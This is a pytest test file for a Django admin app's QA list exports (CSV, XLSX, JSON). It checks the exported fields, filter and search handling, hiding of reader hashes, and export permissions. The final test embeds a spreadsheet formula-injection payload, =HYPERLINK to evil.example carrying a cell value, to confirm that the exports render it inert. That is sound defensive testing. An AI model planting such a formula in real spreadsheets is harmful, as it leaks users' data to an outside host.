"""Exports of the QA lists (django-import-export): the answer, review and feedback lists as CSV, XLSX and
JSON, the rows the list's filters and search select, the declared fields only, for QA reviewers only."""

from __future__ import annotations

import csv
import io
import json
from typing import Any
from urllib.parse import urlencode

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from answers.feedback import feedback_create, feedback_resolve_for_review
from answers.models import Answer, Review, ReviewSourceFlag

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "xlsx", "json"]


def export_url(model: str, params: dict[str, str] | None = None) -> str:
    url = reverse(f"admin:answers_{model}_export")
    return f"{url}?{urlencode(params)}" if params else url


def export(client: Any, model: str, fmt: str, params: dict[str, str] | None = None) -> list[dict[str, Any]]:
    """Export through admin's own form (every field ticked, as it opens), read back as rows of dicts."""
    url = export_url(model, params)
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["form"]
    data = {name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)}
    data["resource"] = "0"
    data["format"] = next(value for value, title in form.fields["format"].choices if title == fmt)
    response = client.post(url, data)
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    return read(response.content, fmt)


def read(content: bytes, fmt: str) -> list[dict[str, Any]]:
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    if fmt == "json":
        rows: list[dict[str, Any]] = json.loads(content)
        return rows
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *body = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in body]


def as_exported(value: Any, fmt: str) -> Any:
    """A value as the format carries it: CSV text throughout; XLSX has no empty text (None)."""
    if fmt == "csv":
        return "" if value is None else str(value)
    if fmt == "xlsx" and value == "":
        return None
    return value


def feedback(
    answer: Answer, verdict: str, *, source: int | None = None, comment: str = "", client: str
) -> Any:
    return feedback_create(
        answer=answer, verdict=verdict, source_number=source, comment=comment, user=None, client=client
    )


@pytest.fixture
def reviewed(answer_factory, reviewer):
    """An answer citing two of three sources, reviewed twice (the second review counts), with feedback."""
    answer = answer_factory(text="Tea [3] and chairs [1].", source_count=3, question="Where is the tea?")
    feedback(answer, "unhelpful", source=2, comment="Not about tea.", client="c0ffee01" + "0" * 56)
    first = Review.objects.create(answer=answer, reviewer=reviewer, verdict="ok", notes="fine")
    second = Review.objects.create(answer=answer, reviewer=reviewer, verdict="incomplete", notes="half")
    ReviewSourceFlag.objects.create(
        review=second, source=answer.sources.get(original_number=2), flag="should_be_cited", note="chairs"
    )
    return answer, first, second


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_answer_list_exports_its_declared_fields(fmt, qa_client, reviewed):
    answer, _, _ = reviewed
    (row,) = export(qa_client, "answer", fmt)
    first, second = (answer.sources.get(final_number=n) for n in (1, 2))
    expected = {
        "id": str(answer.pk),
        "question": "Where is the tea?",
        "origin": "reader",
        "status": "done",
        "provider": "scripted",
        "model": "scripted-1",
        "final_text": answer.final_text,
        "references": f"[1] {first.title} <{first.url}>; [2] {second.title} <{second.url}>",
        "retrieved": 3,
        "cited": 2,
        "dropped": 1,
        "renumbered": True,
        "fallback": False,
        "declined": False,
        "stripped": 0,
        "review_verdict": "incomplete",  # the latest review counts
        "unresolved_feedback": 1,  # reviews made here, not in admin: nothing resolved it
        "created_at": answer.created_at.isoformat(),
        "error_kind": "",
    }
    assert {key: row[key] for key in expected} == {k: as_exported(v, fmt) for k, v in expected.items()}
    assert answer.final_text.startswith("Tea [1]")
    # What the list holds back: the rendered HTML, the raw reply, the marker record, the asker.
    assert not {"html", "raw_text", "markers", "asker", "support", "retrieval_trace"} & set(row)
    assert "<p>" not in json.dumps(row, default=str)


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_review_list_exports_every_review_and_says_which_counts(fmt, qa_client, reviewed, reviewer):
    answer, first, second = reviewed
    rows = export(qa_client, "review", fmt)
    by_id = {str(r["id"]): r for r in rows}
    assert set(by_id) == {str(first.pk), str(second.pk)}
    flagged = answer.sources.get(original_number=2)
    expected = {
        "answer_id": str(answer.pk),
        "question": "Where is the tea?",
        "provider": "scripted",
        "verdict": "incomplete",
        "notes": "half",
        "reviewer": reviewer.get_username(),
        "counts": True,
        "source_flags": f"[2] {flagged.title}: should_be_cited (chairs)",
        "created_at": second.created_at.isoformat(),
    }
    row = by_id[str(second.pk)]
    assert {key: row[key] for key in expected} == {k: as_exported(v, fmt) for k, v in expected.items()}
    older = by_id[str(first.pk)]
    assert (older["verdict"], older["counts"], older["source_flags"]) == (
        "ok",
        as_exported(False, fmt),
        as_exported("", fmt),
    )


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_feedback_list_exports_without_the_readers_hash(fmt, qa_client, reviewed):
    answer, _, _ = reviewed
    (row,) = export(qa_client, "feedback", fmt)
    flagged = answer.sources.get(final_number=2)  # the reader flagged [2], by the number they saw
    expected = {
        "answer_id": str(answer.pk),
        "question": "Where is the tea?",
        "verdict": "unhelpful",
        "flagged_source": f"[{flagged.final_number}] {flagged.title}",
        "comment": "Not about tea.",
        "sender": "anonymous reader c0ffee01",
        "resolved": False,
        "resolved_by_review": None,
    }
    assert {key: row[key] for key in expected} == {k: as_exported(v, fmt) for k, v in expected.items()}
    assert "client" not in row
    assert "0" * 56 not in json.dumps(row, default=str)


def listed(client: Any, model: str, params: dict[str, str]) -> set[str]:
    response = client.get(reverse(f"admin:answers_{model}_changelist"), params)
    assert response.status_code == 200
    return {str(obj.pk) for obj in response.context["cl"].result_list}


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_holds_exactly_the_rows_the_filters_and_search_select(
    fmt, qa_client, answer_factory, reviewer
):
    tea_incomplete = answer_factory(text="Tea [1].", source_count=1, question="Where is the tea kept?")
    tea_ok = answer_factory(text="Tea [1].", source_count=1, question="Is tea served at noon?")
    chairs_incomplete = answer_factory(text="Chairs [1].", source_count=1, question="How many chairs?")
    answer_factory(text="Nothing cited.", source_count=1, question="Is tea free?")  # unreviewed
    for answer, verdicts in (
        (tea_incomplete, ["ok", "incomplete"]),  # corrected: now incomplete
        (tea_ok, ["incomplete", "ok"]),  # corrected: now ok
        (chairs_incomplete, ["incomplete"]),
    ):
        for verdict in verdicts:
            Review.objects.create(answer=answer, reviewer=reviewer, verdict=verdict)

    answers = {"verdict": "incomplete", "q": "tea"}
    exported = {str(r["id"]) for r in export(qa_client, "answer", fmt, answers)}
    assert exported == {str(tea_incomplete.pk)} == listed(qa_client, "answer", answers)
    assert {str(r["id"]) for r in export(qa_client, "answer", fmt, {"verdict": "incomplete"})} == {
        str(tea_incomplete.pk),
        str(chairs_incomplete.pk),
    }

    # The review list: the reviews that count, with the verdict, on questions about tea.
    reviews = {"latest": "yes", "verdict__exact": "incomplete", "q": "tea"}
    exported = {str(r["id"]) for r in export(qa_client, "review", fmt, reviews)}
    counting = Review.objects.get(answer=tea_incomplete, verdict="incomplete")
    assert exported == {str(counting.pk)} == listed(qa_client, "review", reviews)

    # The feedback list: unresolved feedback that says "unhelpful", found by its comment.
    kept = feedback(tea_ok, "unhelpful", comment="cold tea", client="a" * 64)
    feedback(tea_ok, "helpful", comment="cold tea", client="b" * 64)
    feedback(tea_ok, "unhelpful", comment="warm", client="c" * 64)
    resolved = feedback(chairs_incomplete, "unhelpful", comment="cold tea", client="d" * 64)
    Review.objects.create(answer=chairs_incomplete, reviewer=reviewer, verdict="ok")
    feedback_resolve_for_review(review=Review.objects.filter(answer=chairs_incomplete).latest("created_at"))
    resolved.refresh_from_db()
    assert resolved.resolved
    params = {"resolved": "no", "verdict__exact": "unhelpful", "q": "cold"}
    exported = {str(r["id"]) for r in export(qa_client, "feedback", fmt, params)}
    assert exported == {str(kept.pk)} == listed(qa_client, "feedback", params)


def test_only_qa_reviewers_may_export(qa_client, django_user_model, reviewed):
    staff = django_user_model.objects.create_user("staff", password="pw", is_staff=True)
    client = Client()
    # May see the review and feedback lists' models, but not the trail: no exports for them.
    staff.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_review", "view_feedback", "view_answer"])
    )
    client.force_login(staff)
    for model in ("answer", "review", "feedback"):
        assert client.get(export_url(model)).status_code == 403, model
        assert client.post(export_url(model), {"resource": "0", "format": "0"}).status_code == 403, model
    assert "export_link" not in client.get(reverse("admin:answers_review_changelist")).content.decode()

    # A QA reviewer sees the Export link on each list, carrying the list's filters and search.
    for model in ("answer", "review", "feedback"):
        page = qa_client.get(reverse(f"admin:answers_{model}_changelist"), {"q": "tea"}).content.decode()
        assert f'href="{export_url(model)}?q=tea" class="export_link"' in page, model
    # The answer list keeps its health link and its JSON Lines trail export beside it.
    page = qa_client.get(reverse("admin:answers_answer_changelist")).content.decode()
    assert reverse("admin:answers_answer_health") in page
    assert 'value="export_trails"' in page


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_readers_formula_is_inert_in_a_spreadsheet_and_kept_in_json(fmt, qa_client, answer_factory):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    answer_factory(text="A [1].", source_count=1, question=formula + "\x07")
    (row,) = export(qa_client, "answer", fmt)
    assert row["question"] == "'" + formula + ("\x07" if fmt == "csv" else "\N{REPLACEMENT CHARACTER}")
    (row,) = export(qa_client, "answer", "json")
    assert row["question"] == formula + "\x07"
